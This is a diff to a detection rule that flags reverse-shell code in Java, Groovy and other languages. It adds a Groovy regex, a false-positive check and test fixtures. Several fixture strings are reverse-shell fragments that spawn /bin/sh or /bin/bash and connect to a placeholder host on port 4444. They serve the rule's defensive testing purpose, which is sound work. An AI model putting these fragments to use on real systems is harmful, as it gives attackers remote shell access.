@@ -64,7 +64,11 @@ export const rule: Rule = {
       accept: ({ after }) => !isOrdinaryForShell(after.replace(/^["']\s*,\s*["']-c["']\s*,\s*/, '')),
     },
     { re: /new\s+(?:java\.net\.)?Socket\s*\([^]*?(?:ProcessBuilder|\.exec\s*\()/, window: 1200 },
-    { re: /(?:ProcessBuilder|\.exec\s*\()[^]*?(?:new\s+(?:java\.net\.)?|=\s?)Socket\s*\(/, window: 2000 },
+    // ... and Groovy, where a command or a list of its words is run by its own method
+    {
+      re: /(?:ProcessBuilder|\.exec\s*\(|["'\]]\.execute\(\))[^]*?(?:new\s+(?:java\.net\.)?|=\s?)Socket\s*\(/,
+      window: 2000,
+    },
     { re: /ServerSocket\s*\([^]*?\.accept\(\)[^]*?(?:ProcessBuilder|exec)\s*\(\s*["'{]{0,2}\/bin\//, window: 700 },
     // Go, C, C#, Crystal, Dart, V
     {
@@ -99,6 +103,7 @@ export const rule: Rule = {
       "s = socket.socket()\ns.bind(('', 4444))\nc, a = s.accept()\nc.send(subprocess.getoutput(c.recv(99)).encode())",
       'require("net").connect(4444,"203.0.113.7",function(){this.pipe(s.stdin);s.stdout.pipe(this)})',
       'val p = ProcessBuilder("/bin/sh").start()\nval s = Socket("203.0.113.7", 4444)',
+      'Process p=["/bin/bash"].execute();Socket s=new Socket("203.0.113.7",4444);',
       'connect(s, &a, sizeof(a)); dup2(s, 0); dup2(s, 1); execv("/bin/sh", argv);',
       'const c=await Deno.connect({port:4444});const p=new Deno.Command("sh",{stdin:"piped"}).spawn()',
     ],
@@ -107,6 +112,7 @@ export const rule: Rule = {
       'import socket\ns = socket.socket()\ns.connect(("example.com", 80))\nprint(s.recv(100))\n',
       "const { exec } = require('child_process'); exec('git status')",
       'Socket socket = new Socket("example.com", 80);',
+      'pool.execute(task); Socket socket = new Socket("example.com", 80);',
       'net.Dial("tcp", "golang.org:80")',
       "server = TCPServer.new('127.0.0.1', 0)\nport = server.addr[1]\nspawn('ruby', 'app.rb', port.to_s)",
       'int port; try (ServerSocket s = new ServerSocket(0)) { port = s.getLocalPort(); } new ProcessBuilder("java", "-jar", "app.jar").start();',
